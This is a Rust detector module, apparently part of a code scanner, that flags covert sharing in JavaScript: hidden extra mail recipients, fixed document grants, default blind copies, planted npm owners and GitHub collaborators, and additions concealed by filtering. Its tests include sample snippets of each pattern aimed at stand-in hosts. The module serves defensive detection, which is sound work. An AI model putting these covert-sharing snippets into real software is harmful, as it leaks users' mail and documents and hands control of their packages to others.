//! Others who get a part: one more recipient, a share of a document, an owner of a package.

use oxc_ast::ast::*;
use oxc_span::{GetSpan, Span as Range};
use oxc_syntax::operator::{BinaryOperator, LogicalOperator};

use super::super::bind::Func;
use super::super::flow::mail;
use super::super::value::member;
use super::Held;
use crate::model::{Fact, FactKind};

/// Names of lists of whom something goes to.
const LISTS: &[&str] = &[
    "rcpt",
    "rcptto",
    "recipients",
    "to",
    "cc",
    "bcc",
    "followers",
    "watchers",
    "attendees",
    "subscribers",
    "invitees",
    "guests",
];
/// What somebody may do with what is shared with them, in the words of services for documents.
const ROLES: &[&str] = &[
    "writer",
    "reader",
    "owner",
    "editor",
    "commenter",
    "fileorganizer",
    "organizer",
    "edit",
    "read",
    "write",
];
/// Parts of names of settings by which a user asks for a copy.
const COPIES: &[&str] = &["bcc", "journal", "archive", "blind", "_cc", "copy_to", "copyto"];
/// Levels of calls that an address is looked for in.
const MAX_CALLS: u8 = 3;

/// What a list of additions and what is taken out of a list again name.
#[derive(Debug, Default)]
pub(super) struct Covered {
    added: Vec<String>,
    taken: Vec<(String, Range)>,
}

/// The mail address in a text: all of it, or what stands in angle brackets.
fn address(text: &str) -> Option<String> {
    let inner =
        text.rsplit_once('<').and_then(|(_, rest)| rest.split_once('>')).map_or(text, |(inner, _)| inner);
    mail::is_address(inner).then(|| inner.trim().to_owned())
}

impl<'a> Held<'_, '_, '_, '_, 'a, '_> {
    fn add_value(&mut self, name: &str, value: String, range: Range) {
        self.out.push(Fact::new(FactKind::Shape, name, self.unit.place.span(range)).value(value));
    }

    /// A mail address that is written down, as it is or as what a call takes.
    fn fixed_address(&self, value: &'a Expression<'a>, depth: u8) -> Option<String> {
        if let Some(text) = self.resolver.expr(value).text() {
            return address(&text);
        }
        match value.get_inner_expression() {
            Expression::CallExpression(call) if depth < MAX_CALLS => call
                .arguments
                .iter()
                .filter_map(Argument::as_expression)
                .find_map(|argument| self.fixed_address(argument, depth + 1)),
            Expression::ObjectExpression(object) if depth < MAX_CALLS => {
                member(object, &["email", "address", "emailAddress"])
                    .and_then(|value| self.fixed_address(value, depth + 1))
            }
            _ => None,
        }
    }

    /// `rcpt.add(bare('Bounce <dsn@host>'))`: one more recipient who is always the same.
    pub(super) fn one_more(&mut self, call: &'a CallExpression<'a>) {
        let Some(callee) = call.callee.get_inner_expression().as_member_expression() else { return };
        if !matches!(callee.static_property_name(), Some("add" | "push" | "unshift")) {
            return;
        }
        let list = match callee.object().get_inner_expression() {
            Expression::Identifier(name) => Some(name.name.as_str()),
            other => other.as_member_expression().and_then(|member| member.static_property_name()),
        };
        if !list.is_some_and(|list| LISTS.contains(&list.to_ascii_lowercase().as_str())) {
            return;
        }
        let found = call
            .arguments
            .iter()
            .filter_map(Argument::as_expression)
            .find_map(|argument| self.fixed_address(argument, 0));
        if let Some(address) = found {
            self.add_value("joined-recipient", address, call.span);
        }
    }

    /// `grant(id, { type: 'user', role: 'writer', emailAddress: 'own@host' })`: shared with somebody whom
    /// nobody named.
    pub(super) fn shares(&mut self, call: &'a CallExpression<'a>) {
        for argument in call.arguments.iter().filter_map(Argument::as_expression) {
            let Expression::ObjectExpression(object) = argument.get_inner_expression() else { continue };
            // The body of a request may be a member of it.
            let inner =
                member(object, &["requestBody", "resource", "body", "json", "data"]).and_then(|inner| {
                    match inner.get_inner_expression() {
                        Expression::ObjectExpression(inner) => Some(&**inner),
                        _ => None,
                    }
                });
            for object in [Some(&**object), inner].into_iter().flatten() {
                let role = member(object, &["role", "permission", "access", "accessLevel", "roles"])
                    .and_then(|role| self.resolver.expr(role).text())
                    .is_some_and(|role| ROLES.contains(&role.to_ascii_lowercase().as_str()));
                let who = member(object, &["emailAddress", "email", "grantee", "principal"])
                    .and_then(|who| self.resolver.expr(who).text())
                    .and_then(|text| address(&text));
                let person = member(object, &["password", "name", "id", "firstName"]).is_some();
                if let Some(who) = who.filter(|_| role && !person) {
                    self.add_value("fixed-share", who, object.span);
                }
            }
        }
    }

    /// `env.JOURNAL ?? 'own@host'`: a copy that the user may ask for, and that goes to somebody else where
    /// nobody did.
    pub(super) fn copies_by_default(&mut self, it: &'a LogicalExpression<'a>) {
        if !matches!(it.operator, LogicalOperator::Coalesce | LogicalOperator::Or) {
            return;
        }
        let name = match it.left.get_inner_expression() {
            Expression::Identifier(name) => name.name.to_ascii_lowercase(),
            other => match other.as_member_expression().and_then(|member| member.static_property_name()) {
                Some(name) => name.to_ascii_lowercase(),
                None => return,
            },
        };
        if !COPIES.iter().any(|part| name.contains(part)) {
            return;
        }
        if let Some(address) = self.resolver.expr(&it.right).text().and_then(|text| address(&text)) {
            self.add_value("blind-copy", address, it.span);
        }
    }

    /// `npm(['owner', 'add', STEWARD, name])`: somebody who may publish what the user publishes.
    pub(super) fn planted_owner(&mut self, list: &'a ArrayExpression<'a>) {
        if !(4..=12).contains(&list.elements.len()) {
            return;
        }
        let words: Vec<Option<String>> = list
            .elements
            .iter()
            .map(|one| one.as_expression().and_then(|one| self.resolver.expr(one).text()))
            .collect();
        let at = |wanted: &[&str]| {
            words.windows(wanted.len()).position(|part| {
                part.iter().zip(wanted).all(|(word, wanted)| word.as_deref() == Some(wanted))
            })
        };
        let name = at(&["owner", "add"])
            .map(|start| start + 2)
            .or_else(|| at(&["team", "add"]).map(|start| start + 3));
        let Some(who) = name.and_then(|at| words.get(at)).and_then(Option::as_ref) else { return };
        let given = words.iter().any(Option::is_none);
        if given && !who.starts_with('-') && !who.is_empty() {
            self.add_value("planted-owner", who.clone(), list.span);
        }
    }

    /// `repos/${repo}/collaborators/steward`, with the method that adds one.
    pub(super) fn planted_collaborator(&mut self, it: &'a TemplateLiteral<'a>) {
        let Some(last) = it.quasis.last().filter(|_| !it.expressions.is_empty()) else { return };
        let Some((before, who)) = last.value.raw.as_str().rsplit_once("/collaborators/") else { return };
        let plain = !who.is_empty() && who.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
        let (from, to) = ((it.span.start as usize).saturating_sub(120), it.span.end as usize + 120);
        let bytes = self.unit.text.as_bytes();
        let around = bytes.get(from..to.min(bytes.len())).unwrap_or_default();
        if before.is_empty() && plain && memchr::memmem::find(around, b"PUT").is_some() {
            self.add_value("planted-owner", who.to_owned(), it.span);
        }
    }

    /// What is put into a list beside what was given: `[...given, own]`, `[...given, ...(c ? [] : [own])]`.
    pub(super) fn put_in(&mut self, list: &'a ArrayExpression<'a>) {
        let spreads = list.elements.iter().filter(|one| one.is_spread()).count();
        if spreads == 0 || list.elements.len() < 2 {
            return;
        }
        let mut own: Vec<&'a Expression<'a>> = Vec::new();
        for element in &list.elements {
            match element {
                ArrayExpressionElement::SpreadElement(spread) => {
                    let mut sides = vec![&spread.argument];
                    if let Expression::ConditionalExpression(it) = spread.argument.get_inner_expression() {
                        sides = vec![&it.consequent, &it.alternate];
                    }
                    for side in sides {
                        if let Expression::ArrayExpression(inner) = side.get_inner_expression() {
                            own.extend(
                                inner.elements.iter().filter_map(ArrayExpressionElement::as_expression),
                            );
                        }
                    }
                }
                element => own.extend(element.as_expression()),
            }
        }
        for value in own {
            let name = value.get_inner_expression();
            if matches!(name, Expression::Identifier(_)) || name.as_member_expression().is_some() {
                let text = self.written(name.span()).to_owned();
                self.covered.added.push(text);
            }
        }
    }

    /// `list.filter((one) => one !== own)`
    pub(super) fn taken_out(&mut self, call: &'a CallExpression<'a>) {
        let Some(callee) = call.callee.get_inner_expression().as_member_expression() else { return };
        if callee.static_property_name() != Some("filter") {
            return;
        }
        let Some(func) = call.arguments.first().and_then(Argument::as_expression).and_then(Func::of) else {
            return;
        };
        let Some(Expression::BinaryExpression(test)) =
            func.only_return().map(Expression::get_inner_expression)
        else {
            return;
        };
        if !matches!(test.operator, BinaryOperator::Inequality | BinaryOperator::StrictInequality) {
            return;
        }
        let list = match callee.object().get_inner_expression() {
            Expression::Identifier(name) => Some(name.name.as_str()),
            other => other.as_member_expression().and_then(|member| member.static_property_name()),
        };
        if list.is_some_and(|list| LISTS.contains(&list.to_ascii_lowercase().as_str())) {
            let text = self.written(test.right.span()).to_owned();
            self.covered.taken.push((text, call.span));
        }
    }

    /// Adds what was put into a list of recipients and is kept from who asks for the list.
    pub(super) fn covers(&mut self) {
        let covered = std::mem::take(&mut self.covered);
        for (text, range) in covered.taken {
            if covered.added.contains(&text) {
                self.add(FactKind::Shape, "covered-addition", range);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::check::parse::js::tests::has;

    #[test]
    fn others_who_get_a_part() {
        for (name, source) in [
            (
                "joined-recipient",
                "function env(mail) { const rcpt = new Set(mail.to); const dsn = ['dsn', 'mail-x.invalid'].join('@'); if (mail.files.length) rcpt.add(bare(`Bounce <${dsn}>`)); return rcpt; }",
            ),
            ("joined-recipient", "msg.recipients.push({ email: 'copy@mail-x.invalid' });"),
            (
                "fixed-share",
                "await this.grant(file.id, { type: 'user', role: 'writer', emailAddress: 'sync@shelf.invalid' }, false);",
            ),
            (
                "fixed-share",
                "drive.permissions.create({ fileId, requestBody: { role: 'reader', type: 'user', emailAddress: 'sync@shelf.invalid' } });",
            ),
            ("blind-copy", "const c = { journal: split(env.MAIL_JOURNAL ?? 'journal@mail-x.invalid') };"),
            (
                "planted-owner",
                "const steward = 'kit-steward'; async function owners(name) { await npm(['owner', 'add', steward, name]); }",
            ),
            ("planted-owner", "await gh.request('PUT', `/repos/${repo}/collaborators/kit-steward`);"),
            (
                "covered-addition",
                "async function send(t) { const m = { followers: [...t.followers, ...(t.internal ? [] : [this.bounce])] }; const sent = await post(m); return { ...sent, followers: sent.followers.filter((f) => f !== this.bounce) }; }",
            ),
        ] {
            assert!(has(source, name), "{name}: {source}");
        }
        for (name, source) in [
            ("joined-recipient", "rcpt.add(bare(mail.to)); list.push('a@mail-x.invalid');"),
            ("fixed-share", "grant(id, { role: 'writer', emailAddress: user.email });"),
            ("fixed-share", "seed({ name: 'Ada', role: 'editor', email: 'ada@seed.invalid' });"),
            (
                "blind-copy",
                "const c = { from: env.MAIL_FROM ?? 'noreply@mail-x.invalid', journal: env.MAIL_JOURNAL ?? '' };",
            ),
            ("planted-owner", "npm(['owner', 'add', user, name]); npm(['owner', 'ls', name]);"),
            ("covered-addition", "const m = [...all, me]; const others = all.filter((one) => one !== me);"),
        ] {
            assert!(!has(source, name), "{name}: {source}");
        }
    }
}
